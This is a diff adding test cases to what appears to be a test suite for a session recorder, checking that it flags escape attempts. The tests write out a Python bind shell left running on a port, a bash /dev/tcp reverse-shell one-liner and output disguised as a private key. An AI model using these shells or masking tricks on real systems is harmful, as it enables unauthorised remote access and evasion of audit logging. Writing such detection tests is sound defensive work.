@@ -309,6 +309,51 @@ def multiplexed(arena):
         p.wait()
 
 
+def own_port(arena):
+    """A shell of his own on a port, left behind, and what it shows to whoever connects."""
+    arena.write_home('port.py', 'import os, socket\ns = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()\n'
+                     'open("port", "w").write(str(s.getsockname()[1]))\nos.rename("port", "ready")\nc = s.accept()[0]\n'
+                     'for n in range(3): os.dup2(c.fileno(), n)\nos.execv("/bin/bash", ["bash"])\n')
+    arena.command('rm -f ready; setsid nohup python3 port.py > /dev/null 2>&1 < /dev/null &')
+    until(lambda: os.path.exists('/home/mallory/ready'), 'it listens', PATIENCE)
+    with open('/home/mallory/ready') as f, socket.create_connection(('127.0.0.1', int(f.read())), PATIENCE) as s:
+        s.settimeout(PATIENCE)
+        s.sendall(b'echo RIG""portGIR; exit\n')
+        arena.see(s.recv(100))
+    if 'left-behind' in arena.flags():
+        arena.tell('flag', 'left-behind')
+
+
+def reverse(arena):
+    """While he is logged in, a shell of his talks to a machine of his."""
+    with socket.socket() as server:
+        server.bind(('127.0.0.1', 0))
+        server.listen(1)
+        server.settimeout(PATIENCE)
+        t = arena.terminal()
+        t.type(b'bash > /dev/tcp/127.0.0.1/%d 0>&1 2>&1 &\r' % server.getsockname()[1])
+        c = server.accept()[0]
+        c.settimeout(PATIENCE)
+        c.sendall(b'echo RIG""reverseGIR; exit\n')
+        arena.see(c.recv(100))
+        c.close()
+        arena.done(t)
+    if any(b'/dev/tcp' in arena.host.output(s) for s in arena.mine()):
+        arena.tell('record', 'the command that began it')
+
+
+def dressed(arena):
+    """What he looks at, dressed as a private key: tokens are hidden in the record."""
+    arena.write_home('pem.py', 'import base64\nprint("-----BEGIN PRIVATE " + "KEY-----")\nfor n in range(12):\n'
+                     '    print(("RIG" + "dressed%02dGIR" % n).ljust(64, "A"))\nprint("-----END PRIVATE " + "KEY-----")\n')
+    t = arena.terminal()
+    t.type(b'python3 pem.py; m plain\r')
+    t.expect(b'RIGplainGIR', seconds=PATIENCE)
+    arena.done(t)
+    if 'token' in arena.flags():
+        arena.tell('flag', 'token')
+
+
 def chsh(arena):
     """He has a password, and gives himself a shell that is not recorded."""
     with open('/etc/shadow') as f:
@@ -384,6 +429,10 @@ ROWS = [
     row('escaping', 'sftp', 'with the file server that the login shell starts', 'flagged', sftp_external),
     row('escaping', 'internal-sftp', 'with the file server inside sshd', 'flagged',
         with_sshd('Subsystem sftp internal-sftp', sftp_internal), quick=True),
+    row('escaping', 'a shell on a port', 'left behind, and used from elsewhere', 'flagged', own_port,
+        pending='the flag left-behind'),
+    row('escaping', 'a shell to elsewhere', 'from a session, over the network', 'flagged', reverse),
+    row('escaping', 'dressed as a private key', 'text that the record hides as a token', 'flagged', dressed),
     row('escaping', 'chsh', 'he has a password, and gives himself /bin/bash', 'flagged', chsh),
     row('escaping', 'chsh, not in /etc/shells', 'the same where the recorder is not listed there', 'recorded', chsh_unlisted),
 ]
